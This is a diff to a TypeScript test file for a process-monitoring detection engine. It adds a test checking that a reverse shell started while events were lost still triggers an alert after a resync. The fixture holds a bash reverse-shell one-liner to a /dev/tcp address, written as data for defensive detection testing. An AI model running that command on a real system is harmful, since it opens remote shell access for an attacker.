@@ -6,7 +6,7 @@ import type { ProcSnapshot, RawEvent } from '../../src/capture/raw-event.js';
 import { ProcessEventStream, type HostInfo } from '../../src/ecs/index.js';
 import { FixtureProcFs } from '../../src/process/index.js';
 import { execEvent, forkEvent, exitEvent, SteppedClock } from '../process/raw-events.js';
-import { makeProcTree, writeProcess, removeTree } from '../process/proc-tree.js';
+import { makeProcTree, writeProcess, removeProcess, removeTree } from '../process/proc-tree.js';
 
 const HOST: HostInfo = {
   name: 'lab-host',
@@ -157,5 +157,30 @@ describe('Engine', () => {
     e.setRules(small());
     e.handleBatch(flood(700), out);
     expect(e.stats().sequenceEvictions).toBeGreaterThan(evicted);
+  });
+
+  it('judges what a rescan after a loss finds: a reverse shell started under cover of the loss still alerts', async () => {
+    const clock = new SteppedClock();
+    const e = await engine(clock);
+    const out = collector();
+    // Launched while events were lost: the table never saw its fork or exec.
+    writeProcess(root, { pid: 900, ppid: 100, comm: 'bash', argv: ['bash', '-i'], exe: '/usr/bin/bash', startTicks: 9_000 });
+    writeProcess(root, { pid: 901, ppid: 900, comm: 'sh', argv: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], exe: '/usr/bin/dash', startTicks: 9_001 });
+    try {
+      clock.advance(5_000);
+      e.resync();
+      // The next event from the kernel carries the recovered processes into the rules.
+      e.handleBatch([exitEvent(4242, 0)], out);
+      const alert = out.alerts.find((a) => String((a.process as { command_line?: string }).command_line).includes('/dev/tcp/203.0.113.9'));
+      expect(alert).toBeDefined();
+      expect((alert!.execwarden as { process?: { recovered?: boolean } }).process?.recovered).toBe(true);
+      // Judged once: a later event does not replay them.
+      const count = out.alerts.length;
+      e.handleBatch([exitEvent(4243, 0)], out);
+      expect(out.alerts.length).toBe(count);
+    } finally {
+      removeProcess(root, 900);
+      removeProcess(root, 901);
+    }
   });
 });
